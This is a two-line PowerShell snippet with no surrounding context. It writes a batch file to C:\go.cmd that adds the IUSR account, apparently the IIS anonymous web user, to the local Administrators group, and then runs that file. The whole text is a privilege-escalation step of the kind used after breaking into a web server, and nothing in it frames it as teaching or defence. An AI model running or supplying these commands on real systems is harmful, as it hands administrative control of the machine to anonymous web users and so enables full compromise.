Set-Content C:\go.cmd 'net localgroup Administrators IUSR /add'
Invoke-Item C:\go.cmd
